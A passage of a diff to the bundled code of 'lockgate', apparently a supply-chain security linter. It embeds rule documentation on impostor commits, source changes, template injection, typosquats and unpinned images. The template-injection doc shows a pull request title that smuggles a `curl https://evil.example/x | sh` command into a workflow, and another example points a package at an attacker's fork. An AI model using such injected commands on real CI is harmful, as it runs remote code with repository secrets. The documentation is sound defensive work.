     "impostor-commit": "# impostor-commit\n\nDefault severity: **error**. Needs the network (GitHub API); silent offline.\n\nA pinned SHA is not reachable from the action repository's branches or tags.\n\n## What it reports\n\nA `uses:` pinned to a full commit SHA (steps, composite action steps, reusable-workflow jobs) when\nGitHub shows the commit is on none of `owner/repo`'s branches or tags. lockgate checks, in\nzizmor's order: whether the SHA is the tip of a tag or branch; whether it is in the history of the\ndefault branch (`GET /repos/{owner}/{repo}/compare/{default}...{sha}` is `behind` or `identical`);\nthen the same comparison against the other branches and the tags (at most 20 comparisons, and\n300 tags / 300 branches listed). Only a complete search that finds nothing is reported; an\ninconclusive search (a very large repository, a rate limit, the network budget) reports nothing and\nsays so in the run log.\n\n## Why\n\nGitHub serves the commits of every fork through the parent repository: anyone can fork\n`actions/checkout`, push a malicious commit to the fork, and `uses: actions/checkout@<that sha>`\nruns it, under the trusted name. Such an \"impostor commit\" looks exactly like a proper pin in review.\nA SHA that no branch or tag of the real repository contains was never published by its owners.\n\n## How to fix\n\nPin a commit the repository itself published, normally a release tag's commit:\n\n```sh\ngh api repos/actions/checkout/tags --jq '.[] | .name + \" \" + .commit.sha' | head\n```\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nThen find out how the impostor SHA got into the workflow: treat it as a possible attack.\n\n## How to ignore\n\nOn the `uses:` line or the line above it (only for a commit you verified, such as one on a branch\nthat was deleted after a merge):\n\n```yaml\n      # lockgate: ignore[impostor-commit] squash-merged PR commit, verified by @maintainer\n      - uses: my-org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: impostor-commit\n    path: .github/workflows/deploy.yml\n    until: 2026-12-31\n    reason: commit verified with the vendor, repin planned\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@ffffffffffffffffffffffffffffffffffffffff\n```\n\n```\nerror[impostor-commit] .github/workflows/ci.yml:8:15\n  Commit ffffffffffff is on no branch or tag of actions/checkout: GitHub serves commits of any fork\n  through the parent repository, so this pin can run code the owners never published.\n```\n",
@@ -34831,6 +34946,7 @@ const RULE_DOCS = {
     "source-changed": "# source-changed\n\nDefault severity: **error**.\n\nA locked package moved to another source (registry to git/url/path, or another index).\n\n## What it reports\n\nA package that the base lock takes from one place and the head lock from another, at the head\nentry's `[[package]]` line in `uv.lock`:\n\n- from a registry (package index) to a git repository, a direct URL, a local path or directory,\n  or an editable checkout;\n- from one registry to another (`https://pypi.org/simple` to `https://mirror.example.com/simple`);\n- from a git repository to another repository, or between other non-registry sources with a\n  different location.\n\nNot reported: a move *onto* a registry (a local checkout or fork given up for the published\nrelease, as in flask dropping `werkzeug = { path = \"../werkzeug\" }`), a git dependency moving to\nanother commit of the same repository (an update; the JSON report still lists it as\n`source-changed`), and a local path that only becomes editable or non-editable. The project's own\nworkspace members are never compared. Versions locked several times (forked resolutions) are\nmatched by source first, so a fork does not look like a move.\n\n## Why\n\nThe version number stays the same, so a reviewer who reads \"idna 3.7\" sees nothing new, but the\ncode now comes from whoever controls the new source. A `[tool.uv.sources]` entry pointing a\nwell-known name at a fork, or an extra index that also serves that name (dependency confusion), is\nhow a pull request slips foreign code into a build without touching a single import.\n\n## How to fix\n\nIf the move is not intended, remove the entry from `[tool.uv.sources]` (or the index setting that\ncaused it) and re-lock:\n\n```sh\nuv lock\n```\n\nIf it is intended, review the new source (the repository, the commit, who controls the index), and\nprefer pinning it: `idna = { git = \"https://github.com/org/idna\", rev = \"<full sha>\" }`, or an\n`explicit = true` index used only by the packages that need it.\n\n## How to ignore\n\nuv rewrites `uv.lock` on every `uv lock`, so a comment there does not last; use a config entry,\nlimited to the package, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: source-changed\n    package: idna\n    reason: our fork carries the IDNA 2008 fix until upstream releases it\n    until: 2026-12-31\n```\n\n`# lockgate: ignore[source-changed]` on the `[[package]]` line (or the line above) also works for\nas long as the comment survives.\n\n## Example\n\n```toml\n# pyproject.toml (head)\n[tool.uv.sources]\nidna = { git = \"https://github.com/attacker/idna\", branch = \"main\" }\n```\n\n```\nuv.lock:39 error source-changed: idna 3.7 now comes from git https://github.com/attacker/idna@3f1c…,\nno longer from registry https://pypi.org/simple. The package no longer comes from its index: …\n```\n",
     "stale-action-ref": "# stale-action-ref\n\nDefault severity: **notice**. Needs the network (GitHub API); silent offline. Pedantic persona: shown\nwith `persona: pedantic` or `auditor`.\n\nA pinned SHA is not the commit of any tag of the action repository.\n\nzizmor id: `stale-action-refs` (its ignore comment `# zizmor: ignore[stale-action-refs]` is honoured).\n\n## What it reports\n\nA step's `uses:` (in a workflow job or a composite action) pinned to a full commit SHA that no tag of\n`owner/repo` points at, according to GitHub's tag listing (`GET /repos/{owner}/{repo}/tags`, the same\nlisting `ref-version-mismatch` reads, so no extra request). A SHA that is an annotated tag's own object\ncounts as tagged. Only a complete listing is trusted: when the repository has more tags than lockgate\nlists (300), or the listing failed, nothing is reported. Reusable-workflow jobs are not checked, as in\nzizmor.\n\n## Why\n\nA commit between releases is code nobody released: no version names it, release notes do not\ndescribe it, and update tools (Dependabot, Renovate) cannot tell which version it is. It is often a\npin taken from a branch tip that was never meant to be used.\n\n## How to fix\n\nPin the commit of a release, with its tag as a comment:\n\n```sh\ngh api repos/actions/checkout/tags --jq '.[] | .name + \" \" + .commit.sha' | head\n```\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[stale-action-ref] fix not released yet, see org/action#12\n      - uses: org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9\n```\n\nOr a config `ignore:` entry with the rule, the path, a reason and an `until` date.\n\n## Example\n\n```\nnotice[stale-action-ref] .github/workflows/ci.yml:8:15\n  Commit 0c45773b623b is not the commit of any tag of org/action: it is not a release, so no\n  version names the code that runs and update tools cannot tell what it is.\n```\n",
     "template-injection": "# template-injection\n\nDefault severity: **error** (attacker-controlled text), **warning** (other untrusted values).\n\nA `${{ }}` expansion of attacker-controlled text lands in a script.\n\nzizmor id: `template-injection` (its ignore comment `# zizmor: ignore[template-injection]` is honoured).\n\n## What it reports\n\nEvery `${{ … }}` inside code, in workflows and in composite actions' `runs.steps`, whose value is not\nknown to be safe. Code is:\n\n- a `run:` script;\n- the `script:` input of `actions/github-script`;\n- the inputs that other actions run as code, the list zizmor uses (GitHub's CodeQL injection sinks\n  and zizmor's additions): `8398a7/action-slack` `custom_payload`, `appleboy/ssh-action` `script`,\n  `azure/cli` and `azure/powershell` `inlineScript`, `devorbitus/yq-action-output`, `mikefarah/yq`\n  and `sergeysova/jq-action` `cmd`, `gautamkrishnar/blog-post-workflow` `item_exec`,\n  `imjohnbo/issue-bot` `body`, `linked-comments-previous-issue-text` and\n  `linked-comments-new-issue-text`, `lucasbento/auto-close-issues` `issue-close-message`,\n  `roots/issue-closer-action` `issue-close-message` and `pr-close-message`,\n  `skitionek/notify-microsoft-teams` `overwrite`, `tibdex/backport` `body_template`,\n  `head_template`, `labels_template` and `title_template`, `amadevus/pwsh-script` and\n  `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action` `expression`,\n  `addnab/docker-run-action` `options` and `run`. Other inputs of these actions, and inputs of\n  other actions, are data and not reported.\n\nThe finding points at the `${{` itself (line and column inside the script, in every scalar style:\n`|`, `|+`, `>`, `>-`, plain and quoted scalars over several lines).\n\n- **error**: the value is free text that outsiders write: pull request title, body, head branch\n  (`github.head_ref`, `github.event.pull_request.head.ref` / `.label` / `.repo.*`), issue title and\n  body, comment, review and review-comment bodies, discussion title and body, wiki page names,\n  commit messages and author or committer names and emails (`commits.*`, `head_commit`,\n  `merge_group.head_commit`), the `workflow_run` head branch, display title, head commit and head\n  repository; any object that contains one (`toJSON(github.event)`); and an `env.X` whose `env:`\n  entry is set from one of these.\n- **warning**: text the workflow cannot vouch for: step and job outputs (`steps.*.outputs.*`,\n  `needs.*.outputs.*`), free-text inputs (`inputs.*` and `github.event.inputs.*` of type string or\n  with no type, every input of a composite action), `env.X` not set to a literal, matrix values\n  computed from an expression, `github.ref_name`, `github.actor`, release fields, and any other\n  `github.event` field not known to be safe.\n- **never**: ids, numbers, SHAs, timestamps and flags (`github.sha`, `github.run_id`,\n  `github.repository`, `github.event.pull_request.number`, `…head.sha`), `runner.*`, `strategy.*`,\n  `secrets.*` (a secret in a script is not code an outsider chose), `vars.*` (set by admins),\n  `steps.*.outcome`, `needs.*.result`, inputs typed boolean, number, choice or environment (GitHub\n  validates them), `env.X` set to a literal, matrix values written as literals, and expressions that\n  yield only a boolean or a digest (`contains(…)`, `==`, `!`, `hashFiles(…)`). Only the parts of an\n  expression whose text can reach the result count: in `a && 'yes' || 'no'` nothing does.\n\nAn expression that does not parse is graded by every context named in it: never safe by accident.\n\nThe lists follow zizmor's `template-injection` audit (its context-capability table): zizmor's\n\"arbitrary\" fields reachable by outsiders are errors here, its \"structured\" fields (URLs) and unknown\n`github.*` paths are warnings. Unlike zizmor, lockgate follows `env.X` to the `env:` entry that sets\nit, and does not report the literal-safe \"code smell\" expansions zizmor shows in pedantic mode\n(`${{ env.X }}` of a literal `env:` value included). Severities map as zizmor's: its High\n(attacker-controlled, \"arbitrary\" text) is an error here; its Medium and Low (structured values,\ndynamic matrices, free-text inputs, unknown contexts) are warnings. An `env:` entry set from the\nexpression and read as a variable in the script (`\"$TITLE\"`) is the fix, and is never reported.\n\nConfidence and persona ([confidence and personas](../confidence.md)), after zizmor's grading:\nattacker-controlled text (directly or through an `env:` variable set from it) is **high**; other\n`github.*` values and a matrix that is not all literals **medium**; inputs of a type not known to\nbe safe, step and job outputs and variables set at run time **low**. An expansion of safe values\nonly (`${{ github.sha }}`, a typed input, a literal matrix or `env:` value) is zizmor's \"code\nsmell\": a **notice** of the **pedantic** persona, shown with `--persona pedantic` (secrets, job\nresults and step outcomes are never reported).\n\n## Why\n\nGitHub replaces `${{ }}` with its value as plain text before the shell (or github-script's\nJavaScript) reads the script. A pull request titled `x\"; curl https://evil.example/x | sh; echo \"`\nturns `echo \"${{ github.event.pull_request.title }}\"` into three commands that run with the job's\n`GITHUB_TOKEN` and secrets. Under `pull_request_target`, `issue_comment` or `workflow_run` that\ntoken can write to the repository. This is how the ultralytics package was compromised in\nDecember 2024: a branch name in `github.head_ref` ran inside a `pull_request_target` workflow, and\nthe attacker published releases with a cryptominer.\n\n## How to fix\n\nPass the value through an environment variable; the shell then treats it as data. The finding's\nfix gives the exact line, for example:\n\n```yaml\n      - name: greet\n        env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$PR_TITLE\"\n```\n\nQuote the variable (`\"$PR_TITLE\"`). In PowerShell use `$env:PR_TITLE`, in github-script\n`process.env.PR_TITLE`. For values the runner already exports (`github.head_ref` is\n`$GITHUB_HEAD_REF`, `github.ref_name` is `$GITHUB_REF_NAME`) no `env:` line is needed, and for\n`${{ env.X }}` just write `\"$X\"`.\n\nFor an action input that is code (`mikefarah/yq` `cmd:`, `azure/cli` `inlineScript:` …) the fix says\nnot to write the expression into the input: set the value in the step's `env:` and read the variable\nfrom the code, or have an earlier step write it to a file the code reads.\n\n## How to ignore\n\n`# lockgate: ignore[template-injection]` on the line of the expansion or on the line above it.\nLockgate reads the raw line, so inside a `run: |` block a shell comment works, and in a\ngithub-script `script:` write it after `//`:\n\n```yaml\n        run: |\n          # lockgate: ignore[template-injection] version is validated by the previous step\n          ./release.sh \"${{ inputs.version }}\"\n```\n\nOr a config entry, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: template-injection\n    path: .github/workflows/release.yml\n    until: 2027-01-31\n    reason: version input is validated by the previous step\n```\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n```\n\n```\nerror[template-injection] .github/workflows/greet.yml:6:20\n  ${{ github.event.pull_request.title }} pastes attacker-controlled text (github.event.pull_request.title,\n  written by anyone who opens a pull request) into this run script before it runs; a crafted value\n  executes as shell code with this job's token and secrets.\n  fix: Add env: to this step with the line PR_TITLE: ${{ github.event.pull_request.title }} and write\n  \"$PR_TITLE\" in place of the expression.\n```\n",
+    "typosquat-uses": "# typosquat-uses\n\nDefault severity: **warning**.\n\nAn action or reusable workflow is named like a popular action under another owner (a possible typosquat).\n\nzizmor id: `typosquat-uses` (its ignore comment `# zizmor: ignore[typosquat-uses]` is honoured).\n\n## What it reports\n\nA repository `uses:` whose `owner/repo` is not itself popular and is one of zizmor's edits away\nfrom a popular action of another owner: a character left out (`action/checkout`), doubled\n(`actiions/checkout`), two adjacent characters swapped (`dokcer/login-action`), a keyboard or\nlook-alike typo (`acti0ns/checkout`), or the words reordered (`checkout/actions`). Names compare\nin lower case. The same owner's other actions (`actions/setup-go` beside `actions/setup-node`) never\nmatch, and neither do actions of the repository's own owner. The popular list is zizmor's\n`data/popular-actions.txt` (MIT) plus lockgate's additions for the Python and uv ecosystem\n(`data/popular-actions-extra.txt`), 65 names. Offline, so confidence is **low**, as zizmor's is\nwithout a token; persona regular. A warning, not an error: a similar name is not proof.\n\n## Why\n\nA squatter registers a look-alike owner and waits for a slip; the action then runs their code with\nthe job's token and secrets.\n\n## How to fix\n\nWrite the action you meant, pinned: `actions/checkout@<sha> # v4.2.2`.\n\n## How to ignore\n\n```yaml\n      # lockgate: ignore[typosquat-uses] our own org's fork, reviewed\n      - uses: actionz/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n```\n\n## Example\n\n```\nwarning[typosquat-uses] .github/workflows/ci.yml:8:15\n  The action action/checkout looks like the popular action actions/checkout under another owner: it\n  leaves out a character of actions/checkout. ...\n```\n",
     "typosquat": "# typosquat\n\nDefault severity: **warning**; **error** for a strong imitation of a top-1,000 package, for a\nlook-alike the index shows is very young or has a single release, and for a package removed from\nthe index; **notice** for a weaker resemblance.\n\nA newly locked package name imitates a popular package, or a locked package was removed from the\nindex.\n\n## What it reports\n\nEvery registry package that a change adds to `uv.lock` (directly or as a dependency of a\ndependency, at a new version or for the first time) whose PEP 503-normalized name imitates one of\nthe most downloaded PyPI packages without being it. The finding points at the package's\n`[[package]]` line in `uv.lock` and names the package it imitates, its download rank and the\ntechnique:\n\n| technique | example | severity |\n|---|---|---|\n| separators only | `setup-tools` for `setuptools` | warning |\n| look-alike characters (`l`/`i`/`1`, `o`/`0`, `rn`/`m`, `vv`/`w`) | `rnatplotlib` | warning |\n| two adjacent letters swapped | `reqeusts` | warning |\n| a letter doubled | `djangoo` | warning |\n| a letter dropped | `statmodels` | warning |\n| an extra letter from a neighbouring key | `xcryptography` | warning |\n| a letter replaced by its keyboard neighbour | `numoy` | warning |\n| a plural `s` added | `python-dateutils` | warning |\n| one vowel for another | `pondas` | warning |\n| a `py`/`python` prefix or suffix added or swapped | `python-flask`, `pythonkafka` | warning |\n| the same words in another order | `toolbelt-requests` | warning |\n| a trailing version number (1–2 digits) added or removed | `aiogram-3`, `urllib` | warning |\n| any other single-letter edit, or the `py`/`python` affix dropped | `pandar`, `mongo` | notice |\n\nA strong technique (every row but the last) against a package in the top 1,000 is an **error**,\nexcept a version number added (`httpx3`): forks and successors name themselves that way, so it stays\na warning.\n\nWhat is never reported:\n\n- a name that is **popular itself**: ranked among the 15,000 most downloaded packages, the whole\n  shipped ranking (whatever it resembles: `scapy`, `tomli`, `pipx`, `pypdf3` are real projects).\n  The depth is chosen on the labeled set: none of the 201 malicious typosquats is ranked at any\n  depth (they are removed within days, long before a month of downloads could rank them), while the\n  101 ranked legitimate look-alikes reach down to #14,310. Stopping the exemption at 5,000 would flag\n  24 of them (12 at warning or above: `grequests`, `fastai`, `ipytest`…), at 10,000 still 7, and gain\n  no recall (`npm run score:typosquat` prints the table);\n- a **listed successor or sibling** of the name it resembles, in the reviewed list\n  `data/typosquat-successors.tsv` (name, imitated name, and a source a reviewer can open):\n  `httpx2` and `httpcore2` (Pydantic's maintained continuation of httpx and httpcore, which openai,\n  mcp and fastapi now require), `doclang` (the DocLang validator docling-core depends on). A listed\n  name is spared only as an imitation of the name it is listed with; it is still reported if it\n  imitates another popular name, and still when the index no longer has it;\n- a name in `typosquat.allow`, packages from git, URL, path or workspace sources, and names shorter\n  than 5 characters unless the technique is strong (`web2` for `web3` is reported, `ruxf` for `ruff`\n  is not). Single-letter edits need both names to be at least 4 characters long; a changed version\n  number (`pyqt5` → `pyqt6`, `-cu11` → `-cu12`) is how families are named and is not the version\n  technique.\n\nWhether a look-alike has the same registered owner as the package it resembles would settle many\ncases online, but lockgate does not check it yet: the index API it reads (PEP 691 simple pages,\nand PyPI's JSON API as a fallback for versions) carries no owner, and the JSON API's\n`author`/`maintainer` fields are text the uploader writes, which a squatter copies. Until PyPI's\nJSON API exposes the project's roles, the reviewed list decides, online and offline. To add a name,\nopen a pull request against `data/typosquat-successors.tsv` with its source (and regenerate\n`src/typosquat/successors.generated.ts`, as the file's header says).\n\nThe comparison uses the `typosquat.top` most downloaded names (default: all 15,000) of the ranking\nlockgate ships in `data/top-pypi.tsv` (the public top-pypi-packages ranking by Hugo van Kemenade,\ntaken in November 2026; `data/top-pypi.meta.json` has its date and source). The default protects\nthe whole shipped ranking because a sixth of the real typosquats imitate packages ranked below\n5,000 (see the figures below); lower `typosquat.top` to trade recall for fewer notices.\n\n**Online** (unless `--offline`), the index facts raise the finding:\n\n- to **error** when the look-alike was first uploaded less than 30 days ago or has a single\n  release: most malicious uploads are days old and never get a second version;\n- a locked package that the index no longer has at all (HTTP 404) is reported as **error**,\n  look-alike or not: \"removed from the index\", the most common fate of malicious packages. This\n  applies to every locked registry package, not only to new ones.\n\nConfidence ([confidence and personas](../confidence.md)): the name match's own, as the level\nfollows it: **high** for an error (including one the index raised), **medium** for a warning,\n**low** for a notice. `--min-confidence medium` leaves the weak matches out.\n\n### Measured\n\n`npm run score:typosquat` scores the matcher on the labeled set in `fixtures/typosquat/`\n(201 malicious typosquats that were on PyPI, 123 legitimate look-alikes, 101 of them ranked):\n\n| `typosquat.top` | recall at warning or above | ranked legitimate names flagged | unranked legitimate names flagged |\n|---|---|---|---|\n| 1,000 | 60.2% | 0 | 22 / 22 (8 at warning or above) |\n| 5,000 | 76.1% | 0 | 22 / 22 (9 at warning or above) |\n| 10,000 | 90.5% | 0 | 22 / 22 (9 at warning or above) |\n| 15,000 (default) | 93.5% | 0 | 22 / 22 (9 at warning or above) |\n\n34 of the 201 malicious names imitate a package ranked below 5,000 (`bitcoinlib`, `python-binance`,\n`vyper`, `solana`...): only a larger `top` catches them. The unranked legitimate names were chosen\nfor looking like popular ones (`psutils`, `entrypoint`, `tslocal`); every one is flagged, most as\nnotices. Over all 886,000 names on PyPI, 0.65% would be flagged at warning or above with\n`top: 5000` and 1.59% with the default 15,000; errors (top-1,000 targets) stay at 0.2% either way. On the\nreal locks in `fixtures/uv` (28 snapshots of 10 projects) the rule flags nothing at any `top`;\nwithout the successors list it would flag starlette's `httpx2` and `httpcore2`, the two names the\nlist was started for. The successors list and the popularity depth leave the recall above unchanged\n(188 / 201 before and after): no listed or ranked name is among the malicious ones.\n\n## Why\n\nAttackers publish packages one slip away from popular names (`reqeusts`, `python-dateutils`,\n`djangoo`) and wait for a person, a copied snippet or an AI assistant to add them. Installing\none runs its code at install or import time with the developer's or the CI job's credentials. Such\npackages are usually removed within days of being found, which is why a locked package that\nvanished from the index deserves a look even when its name looks innocent.\n\n## How to fix\n\nIf you meant the popular package, replace the name and re-lock. For a direct dependency:\n\n```console\nuv remove reqeusts && uv add requests\n```\n\nFor a package another dependency pulls in, find which one with\n`uv tree --invert --package reqeusts` and replace or remove it. If a look-alike was installed\nanywhere, treat that machine's credentials as exposed.\n\nIf the name is right (your own package, or a genuine project that happens to look alike), allow it:\n\n```yaml\n# .github/lockgate.yml\ntyposquat:\n  allow: [psutils]\n```\n\n## How to ignore\n\n`typosquat.allow` (above) is the durable way: uv rewrites `uv.lock` on every `uv lock`, so an\ninline `# lockgate: ignore[typosquat]` comment on the `[[package]]` line (or the line above it)\nworks only until the next lock. To waive a finding for a while, use a config ignore with a reason\nand an expiry:\n\n```yaml\nignore:\n  - rule: typosquat\n    package: psutils\n    until: 2027-01-31\n    reason: reviewed, a genuine fork of psutil we depend on\n```\n\n## Example\n\n```text\nuv.lock:75 error typosquat: \"reqeusts\" looks like a typosquat of \"requests\", the #6 most downloaded\nPyPI package (two adjacent letters swapped). Installing the wrong package runs its author's code;\ncheck that this is the package you meant.\nfix: If you meant \"requests\": replace \"reqeusts\" with \"requests\" in pyproject.toml, or run\n`uv remove reqeusts && uv add requests`. If \"reqeusts\" is the package you want, add it to\ntyposquat.allow in .github/lockgate.yml.\n```\n",
     "unpinned-git-source": "# unpinned-git-source\n\nDefault severity: **warning**.\n\nA git source names no rev or tag.\n\n## What it reports\n\nA `[tool.uv.sources]` git entry (root or member, single or in a list) with neither `rev` nor\n`tag`: it follows a `branch`, or the repository's default branch. Also a PEP 508 requirement\n`name @ git+https://…` without any `@ref`.\n\n## Why\n\nToday the lock pins the commit. The next `uv lock --upgrade` (or any re-lock that touches the\npackage) takes whatever the branch points at then: a commit nobody reviewed, pushed by anyone who\ncan push to that branch. A `rev` (a commit) or a `tag` makes a move an explicit change.\n\n## How to fix\n\nPin it to the commit the lock already uses (the message gives it):\n\n```toml\n[tool.uv.sources]\nonbranch = { git = \"https://github.com/example/onbranch.git\", rev = \"89abcdef0123456789abcdef0123456789abcdef\", subdirectory = \"pkg\" }\n```\n\nor to a tag: `tag = \"v1.2.0\"`. Then `uv lock`.\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[unpinned-git-source]` on the source's line or the line above.\n\n## Example\n\n```\npyproject.toml:21 warning unpinned-git-source: The git source of onbranch\n(https://github.com/example/onbranch.git) follows the branch \"main\", so the next\n`uv lock --upgrade` takes whatever commit the branch points at then, unreviewed. Today only the\nlock pins it, to 89abcdef0123456789abcdef0123456789abcdef.\n```\n",
     "unpinned-image": "# unpinned-image\n\nDefault severity: **error**.\n\nA container image is not pinned by digest.\n\nzizmor id: `unpinned-images` (its ignore comment `# zizmor: ignore[unpinned-images]` is honoured).\n\n## What it reports\n\nContainer images referenced without a full `@sha256:<64 hex>` digest in:\n\n- a step's `uses: docker://image` (workflows and composite actions),\n- a job's `container:` (a string) or `container.image`,\n- `services.<id>` (a string) or `services.<id>.image`,\n- a Docker action's `runs.image: docker://image` (`action.yml`),\n- the values of a matrix axis, when an image is exactly `${{ matrix.X }}`: each literal value of `X`\n  (its list and the `include:` entries that set it) is judged, and reported where it is written in\n  the matrix, since that is the text to pin. The message names the container or service it feeds,\n  and the finding's related location (SARIF `relatedLocations`) is that image line, where a\n  `# zizmor: ignore[unpinned-images]` comment is honoured as zizmor honours it.\n\nA tag (`python:3.12`), no tag (`node`, which means `latest`) and a short or malformed digest are all\nreported; the finding points at the image value. A job container or service whose image is only an\nexpression whose values are not in the file (`${{ inputs.image }}`, a matrix axis computed with\n`fromJSON`) may be unpinned: it is a **warning** of **low** confidence (zizmor's \"may be\nunpinned\"), so it never fails the default gate alone and `--min-confidence medium` leaves it out.\nNot reported: an empty `container:` (used to turn a container off in a matrix), an image whose\ndigest part is an expression (`python@${{ vars.DIGEST }}`), and a Docker action built from a local\n`Dockerfile`. An image that mixes text and an expression (`rockylinux:${{ matrix.version }}`)\nis reported: whatever the expression gives, there is no digest.\n\nzizmor's `unpinned-images` reports no tag and `latest` in its default persona and a tag without a\ndigest only when pedantic; lockgate reports all three in the regular persona, since only a digest\npins the content. Every other finding is high confidence ([confidence and personas](../confidence.md)).\n\n## Why\n\nA tag is mutable: the registry (or whoever can push to it) can serve different content under\n`python:3.12` tomorrow, and the job runs it with the job's token and secrets. A digest names exactly\none image manifest. Unlike actions, images are not covered by Dependabot's `github-actions`\necosystem unless you pin them: with a digest, Dependabot's `docker` ecosystem can update them.\n\n## How to fix\n\nKeep the tag for readability and add the digest:\n\n```yaml\n    container: python:3.12-slim@sha256:<digest>\n```\n\nGet the digest (of the multi-platform index) with:\n\n```sh\ndocker buildx imagetools inspect python:3.12-slim    # the \"Digest:\" line\n# or\ncrane digest python:3.12-slim\n```\n\n## How to ignore\n\nOn the image line or the line above it:\n\n```yaml\n    # lockgate: ignore[unpinned-image] throwaway test database\n    services:\n      db:\n        image: postgres:16\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: unpinned-image\n    path: .github/workflows/integration.yml\n    until: 2027-01-01\n    reason: service images pinned with the next test refresh\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12\n    steps:\n      - run: python --version\n```\n\n```\nerror[unpinned-image] .github/workflows/ci.yml:7:16\n  The image python:3.12 (job test container) is referenced by a tag, not by @sha256 digest: the\n  registry can serve different content under the same name at any time.\n  fix: python:3.12@sha256:<digest>, with the digest from: docker buildx imagetools inspect python:3.12   (the \"Digest:\" line)\n```\n",
@@ -50393,7 +50509,416 @@ const workflow_invalid_rule = defineRule({
     },
 });
 
+;// CONCATENATED MODULE: ./src/workflows/archived-actions.generated.ts
+// Generated by scripts/update-action-lists.mjs. Do not edit by hand.
+/** Where the archived list comes from (zizmor, MIT License, Copyright (c) 2024 William Woodruff). */
+const ARCHIVED_ACTIONS_SOURCE = "zizmor crates/zizmor/data/archived-repos.txt at 11bbf7e6cffac7ccf4f803d40255e0cd54c60236 (2026-08-22), https://github.com/zizmorcore/zizmor";
+/** Archived action repositories, `owner/repo` lower case, one a line. */
+const ARCHIVED_ACTIONS = "8398a7/action-slack\nactions-rs/audit-check\nactions-rs/cargo\nactions-rs/clippy-check\nactions-rs/components-nightly\nactions-rs/grcov\nactions-rs/install\nactions-rs/tarpaulin\nactions-rs/toolchain\nactions/create-release\nactions/setup-elixir\nactions/setup-haskell\nactions/setup-ruby\nactions/upload-release-asset\nactionstoolbox/gem-build-and-release-action\nallanchain/poetry-cache-action\nandrewmcodes-archive/rubocop-linter-action\napidevtools/swagger-cli\naquasecurity/cfsec\naraichev/gtfs_kit\nartichoke/setup-rust\naslafy-z/conventional-pr-title-action\nasottile-archive/seed-isort-config\nazure/appconfiguration-sync\nazure/appservice-actions\nazure/azure-resource-login-action\nazure/container-actions\nazure/container-scan\nazure/data-factory-deploy-action\nazure/data-factory-export-action\nazure/data-factory-validate-action\nazure/get-keyvault-secrets\nazure/k8s-actions\nazure/manage-azure-policy\nazure/publish-security-assessments\nazure/run-sqlpackage-action\nazure/spring-cloud-deploy\nazure/webapps-container-deploy\nbenmezger/gjira\nbrettcannon/caniusepython3\ncedrickring/golang-action\ncirrus-actions/rebase\ncontributor-assistant/github-action\nconvictional/trigger-workflow-and-wait\ncpcloud/flake-update-action\ncrazy-max/ghaction-docker-buildx\ncrazy-max/ghaction-hugo\ndariuszporowski/chatgpt-pre-commit-hooks\ndatreeio/datree\ndecathlon/pull-request-labeler-action\ndelaguardo/setup-graalvm\ndnephin/pre-commit-golang\ndulvui/godot-android-export\nelstudio/actions-settings\nexpo/expo-preview-action\nfabasoad/setup-zizmor-action\nfacebook/pysa-action\nfregante/release-with-changelog\ngherynos/pre-commit-java\ngoogle/mirror-branch-action\ngoogle/skywater-pdk-actions\ngradle/gradle-build-action\ngrafana/k6-action\ngruntwork-io/terraform-aws-couchbase\nhashicorp/terraform-cdk-action\nhcodes/yaspeller\nhelaili/github-graphql-action\nhelaili/jekyll-action\nilshidur/action-slack\nirgolic/autopr\njakejarvis/backblaze-b2-action\njakejarvis/cloudflare-purge-action\njakejarvis/firebase-deploy-action\njakejarvis/hugo-build-action\njakejarvis/lighthouse-action\njakejarvis/s3-sync-action\njeffa5/typstfmt\njimmygchen/runner-fallback-action\njosephfrazier/prettier_d\njustinribeiro/lighthouse-action\nkanadgupta/glitch-sync\nkxxt/chatgpt-action\nlapras-inc/resume-sync-action\nlife4/flakehell\nliskin/gh-pipx\nlucas-c/pre-commit-hooks-bandit\nmachine-learning-apps/wandb-action\nmansagroup/gcs-cache-action\nmapbox/secret-shield\nmarcogorelli/absolufy-imports\nmarvinpinto/action-automatic-releases\nmarvinpinto/actions\nmaxheld83/ghpages\nmeilcli/danger-action\nmeilcli/gradle-update-check-action\nmeilcli/npm-update-check-action\nmeilcli/nuget-update-check-action\nmicnncim/action-lgtm-reaction\nmikepenz/gradle-dependency-submission\nniklasmerz/github-deployment-action\nnix-community/nixpkgs-fmt\nonedr0p/sops-pre-commit\norf/cargo-bloat-action\nowenlamont/uv-secure\npaambaati/codeclimate-action\nphilips-software/docker-ci-scripts\npre-commit/mirrors-autopep8\npre-commit/mirrors-isort\npre-commit/mirrors-prettier\nprimer/figma-action\npycqa/pydocstyle\nrapidsai/frigate\nreasonsoftware/action-pylint\nrepo-sync/pull-request\nrepo-sync/repo-sync\nsagebind/docker-swarm-deploy-action\nscottbrenner/generate-changelog-action\nseandstewart/typical\nsecrethub/actions\nsegmentio/golines\nsemgrep/semgrep-action\nshaunlwm/action-release-debugapk\nsnok/pep585-upgrade\nsoichisumi/issue-copy-action\nsonarsource/sonarcloud-github-action\nsphinx-quant/sphinx-quant\nstefafafan/psi-action\nstefanprodan/kube-tools\nsuzuki-shunsuke/github-action-format\nsuzuki-shunsuke/github-action-tflint\nsuzuki-shunsuke/github-action-tfsec\nsuzuki-shunsuke/required-status-check-action\n